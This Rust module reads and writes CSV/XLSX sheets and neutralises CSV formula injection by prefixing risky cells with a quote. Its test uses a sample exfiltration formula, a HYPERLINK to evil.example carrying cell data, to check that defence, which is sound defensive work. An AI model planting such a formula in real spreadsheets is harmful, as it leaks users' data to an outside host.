//! Reading and writing a sheet of text cells, as CSV (UTF-8) or XLSX, chosen by extension.

use std::path::Path;

use calamine::{open_workbook_auto, Data, Reader};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Csv,
    Xlsx,
}

pub fn format_of(path: &Path) -> Result<Format, String> {
    match path
        .extension()
        .and_then(|e| e.to_str())
        .map(|e| e.to_ascii_lowercase())
        .as_deref()
    {
        Some("csv") => Ok(Format::Csv),
        Some("xlsx") => Ok(Format::Xlsx),
        _ => Err(format!(
            "{}: ใช้ไฟล์ .csv หรือ .xlsx / use a .csv or .xlsx file",
            path.display()
        )),
    }
}

/// What a spreadsheet reads as a formula when a cell begins with it (OWASP: CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as written to CSV: one that a spreadsheet would run as a formula (a unit name
/// `=HYPERLINK(...)`, an e-mail `@...`) is written as text, behind a single quote.
fn to_csv(cell: &str) -> String {
    if cell.starts_with(FORMULA_STARTS) {
        format!("'{cell}")
    } else {
        cell.to_string()
    }
}

/// A cell as read from CSV: the quote `to_csv` put before a formula's first character is
/// taken off again, so an export imports back as it was.
fn from_csv(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
        _ => cell,
    }
}

/// All rows of the file (the first is the header), every cell as trimmed text.
pub fn read(path: &Path) -> Result<Vec<Vec<String>>, String> {
    match format_of(path)? {
        Format::Csv => {
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .flexible(true)
                .from_path(path)
                .map_err(|e| format!("{}: {e}", path.display()))?;
            let mut rows = Vec::new();
            for rec in r.records() {
                let rec = rec.map_err(|e| format!("{}: {e}", path.display()))?;
                rows.push(
                    rec.iter()
                        .map(|c| from_csv(c.trim().trim_start_matches('\u{feff}')).to_string())
                        .collect(),
                );
            }
            Ok(rows)
        }
        Format::Xlsx => {
            let mut wb =
                open_workbook_auto(path).map_err(|e| format!("{}: {e}", path.display()))?;
            let sheet = wb
                .sheet_names()
                .first()
                .cloned()
                .ok_or_else(|| format!("{}: ไม่มีแผ่นงาน / no worksheet", path.display()))?;
            let range = wb
                .worksheet_range(&sheet)
                .map_err(|e| format!("{}: {e}", path.display()))?;
            Ok(range
                .rows()
                .map(|row| row.iter().map(cell_text).collect())
                .collect())
        }
    }
}

/// A cell as the text a person typed: whole numbers without ".0" (national IDs, position
/// numbers), Excel dates as ISO dates.
fn cell_text(c: &Data) -> String {
    match c {
        Data::Empty => String::new(),
        Data::String(s) => s.trim().to_string(),
        Data::Float(f) if f.fract() == 0.0 && f.abs() < 1e15 => format!("{}", *f as i64),
        Data::Float(f) => f.to_string(),
        Data::Int(i) => i.to_string(),
        Data::Bool(b) => b.to_string(),
        Data::DateTime(dt) => dt
            .as_datetime()
            .map(|t| t.date().format("%Y-%m-%d").to_string())
            .unwrap_or_default(),
        Data::DateTimeIso(s) => s.chars().take(10).collect(),
        Data::DurationIso(s) => s.clone(),
        Data::Error(e) => format!("#{e:?}"),
    }
}

/// Writes rows (the first is the header) to CSV or XLSX. XLSX cells are text, so national
/// IDs keep their leading digits and Excel does not reformat dates.
pub fn write(path: &Path, rows: &[Vec<String>]) -> Result<(), String> {
    match format_of(path)? {
        Format::Csv => {
            let mut w =
                csv::Writer::from_path(path).map_err(|e| format!("{}: {e}", path.display()))?;
            for r in rows {
                w.write_record(r.iter().map(|c| to_csv(c)))
                    .map_err(|e| e.to_string())?;
            }
            w.flush().map_err(|e| e.to_string())
        }
        Format::Xlsx => {
            let mut wb = rust_xlsxwriter::Workbook::new();
            let ws = wb.add_worksheet();
            let bold = rust_xlsxwriter::Format::new().set_bold();
            for (i, r) in rows.iter().enumerate() {
                for (j, c) in r.iter().enumerate() {
                    let res = if i == 0 {
                        ws.write_string_with_format(i as u32, j as u16, c, &bold)
                    } else {
                        ws.write_string(i as u32, j as u16, c)
                    };
                    res.map_err(|e| e.to_string())?;
                }
            }
            wb.save(path)
                .map_err(|e| format!("{}: {e}", path.display()))
        }
    }
}

#[cfg(test)]
mod csv_tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    /// Issue 21: free text that a spreadsheet would run is exported as text and imports back.
    #[test]
    fn formulas_are_written_as_text_and_read_back_as_they_were() {
        let dir = std::env::temp_dir().join(format!("bmahr_csv_{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("t.csv");
        let cells = [
            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"click\")",
            "+66 81 234 5678",
            "-1",
            "@evil",
            "ordinary",
            "'quoted already",
            "",
        ];
        let rows = vec![
            vec!["h".to_string(); cells.len()],
            cells.iter().map(|c| c.to_string()).collect(),
        ];
        write(&path, &rows).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        for line in text.lines().skip(1) {
            for c in line.split(',') {
                let c = c.trim_start_matches('"');
                assert!(!c.starts_with(FORMULA_STARTS), "{c} in {text}");
            }
        }
        assert_eq!(read(&path).unwrap()[1], rows[1]);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
